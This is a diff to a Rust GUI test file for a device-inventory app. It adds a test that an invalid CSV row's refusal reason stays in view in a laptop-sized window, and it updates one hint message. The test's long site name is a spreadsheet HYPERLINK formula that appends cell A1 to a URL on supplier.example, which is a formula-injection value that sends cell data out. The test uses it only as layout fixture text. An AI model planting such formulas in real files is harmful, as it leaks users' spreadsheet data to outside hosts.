@@ -260,6 +260,42 @@ fn an_invalid_row_shows_the_rest_of_the_label_as_written() {
     }
 }
 
+/// In a laptop's window, an invalid row's Status (why it is refused) is in sight, however long
+/// a supplier's site name: the columns before it widened with their text and pushed Status out
+/// of the window, so a refused photo read as a blank row.
+#[test]
+fn why_a_row_is_invalid_is_in_sight_in_a_laptops_window() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("inventory.sqlite3");
+    let csv = dir.path().join("labels.csv");
+    let long_site = "=HYPERLINK(\"http://supplier.example/?x=\"&A1,\"Room 1 of the east wing\")";
+    std::fs::write(
+        &csv,
+        format!(
+            "MAC,MAC-ID,Model,Site\n\
+             7C2F80A1B200,7C2F80A1B200-483A,N510 IP PRO,\"{}\"\n\
+             7C2F80A1B2,,N510 IP PRO,Roof\n",
+            long_site.replace('"', "\"\"")
+        ),
+    )
+    .unwrap();
+    let mut harness = gui::app_sized(&db, gui::LAPTOP);
+    step_until(&mut harness, "the inventory", |h| {
+        shows(h, "No devices yet")
+    });
+    add_file_by_path(&mut harness, &csv);
+    step_until(&mut harness, "the preview", |h| shows(h, "1 invalid"));
+    let why = harness
+        .query_all_by_label_contains("10 hex digits")
+        .next()
+        .expect("the reason is drawn");
+    assert!(
+        why.rect().left() < gui::LAPTOP.x - 100.0,
+        "the reason starts in sight: {:?}",
+        why.rect()
+    );
+}
+
 /// Whether the "valid rows only" box is ticked; the label names the invalid count.
 fn valid_only_ticked(harness: &App, invalid: usize) -> bool {
     let label = format!("Import the valid rows only, leave out {invalid} invalid");
@@ -293,7 +329,7 @@ fn new_rows_ask_again_and_clear_the_last_done() {
     );
     assert!(shows(
         &harness,
-        "Fix the rows marked in red, or import the valid rows only."
+        "Fix the rows marked in red (their Status says why), or import the valid rows only."
     ));
 
     import_valid_rows_only(&mut harness, 5, 3);
